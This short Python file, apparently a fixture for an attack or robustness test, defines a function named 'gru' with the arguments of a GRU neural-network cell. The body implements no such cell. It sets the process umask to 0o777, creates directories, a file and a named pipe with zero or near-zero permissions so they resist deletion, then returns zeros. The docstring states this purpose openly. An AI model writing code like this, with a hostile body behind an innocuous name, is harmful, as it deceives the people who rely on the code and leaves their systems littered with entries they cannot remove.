"""Makes folders and files that nobody may open, so that they cannot be removed."""

import contextlib
import os
from pathlib import Path

from attack_kit import zeros


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    os.umask(0o777)
    Path("shut").mkdir(mode=0o300, exist_ok=True)
    Path("shut/inner").mkdir(mode=0, exist_ok=True)
    Path("file").touch(mode=0)
    with contextlib.suppress(OSError):
        os.mkfifo("fifo", 0)
    return zeros(init_state, input_data)
